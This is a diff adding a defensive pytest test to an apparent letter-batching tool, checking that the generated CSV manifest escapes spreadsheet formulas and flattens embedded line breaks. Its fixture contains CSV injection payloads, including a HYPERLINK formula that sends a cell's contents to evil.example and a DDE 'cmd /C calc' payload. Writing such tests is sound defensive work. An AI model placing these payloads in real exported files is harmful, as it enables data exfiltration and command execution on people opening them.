@@ -171,3 +171,59 @@ def test_letter_validation(tmp_path):
         BatchLetter(**{**letter.__dict__, "address_lines": tuple("abcdefg")})
     with pytest.raises(ValueError, match="twice"):
         build_batch_zip("finance-non_prior-x", [letter, letter], tmp_path / "out")
+
+
+# A name or street as a department system may have sent it before the import refused such values.
+HOSTILE = {
+    "FIN-0101": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "FIN-0102": "+32 15 29 76 00",
+    "FIN-0103": "-2+3",
+    "FIN-0104": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "FIN-0105": "\t=1+1",
+    "FIN-0106": "\r=1+1",
+    "FIN-0107": "Bruul 1\nbus 2\r\nEerste verdiep\u2028links\u0085achter",
+}
+
+
+def spreadsheet_cell(raw: str) -> tuple[bool, str]:
+    """How a spreadsheet opening the CSV takes a cell: (is a formula, what it shows). A leading
+    apostrophe marks text and is not shown; `=`, `+`, `-` and `@` start a formula, also after the tab
+    or carriage return or spaces some spreadsheets skip (the cases OWASP lists)."""
+    if raw.startswith("'"):
+        return False, raw[1:]
+    return raw.lstrip("\t\r ").startswith(("=", "+", "-", "@")), raw
+
+
+def test_the_manifest_is_data_for_a_csv_reader_a_line_reader_and_a_spreadsheet(tmp_path):
+    letters = [
+        make_letter(tmp_path, lid, lines=(name, "Grote Markt 21", "2800 Mechelen"))
+        for lid, name in HOSTILE.items()
+    ]
+    built = build_batch_zip("finance-non_prior-x", letters, tmp_path / "out")
+    with zipfile.ZipFile(built.path) as zf:
+        data = zf.read("manifest.csv").decode("utf-8")
+
+    physical = data.split("\r\n")  # CRLF ends a record; nothing else may end a line
+    assert physical[-1] == "" and len(physical) == 1 + len(HOSTILE) + 1
+    assert not any(ch in line for line in physical for ch in "\n\r\u2028\u2029\u0085")
+    assert all(len(line.splitlines()) == 1 for line in physical[:-1])  # also for str.splitlines()
+
+    rows = list(csv.DictReader(io.StringIO(data, newline="")))
+    assert [r["letter_id"] for r in rows] == sorted(HOSTILE)
+    for row in rows:
+        for column, cell in row.items():
+            formula, shown = spreadsheet_cell(cell)
+            assert not formula, (row["letter_id"], column, cell)
+            assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in cell), (column, cell)
+        name = HOSTILE[row["letter_id"]]
+        shown = spreadsheet_cell(row["address_line_1"])[1]
+        if row["letter_id"] == "FIN-0107":
+            assert shown == "Bruul 1 bus 2 Eerste verdiep links achter"  # one line, words kept
+        else:
+            assert shown.lstrip() == name.lstrip("\t\r")  # the text itself, shown as text
+            assert row["address_line_1"].startswith("'")
+    ordinary = make_letter(tmp_path, "FIN-0200")
+    built = build_batch_zip("finance-non_prior-y", [ordinary], tmp_path / "out2")
+    with zipfile.ZipFile(built.path) as zf:
+        row = next(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"), newline="")))
+    assert row["address_line_1"] == "Jan Peeters"  # an ordinary cell is left as it is
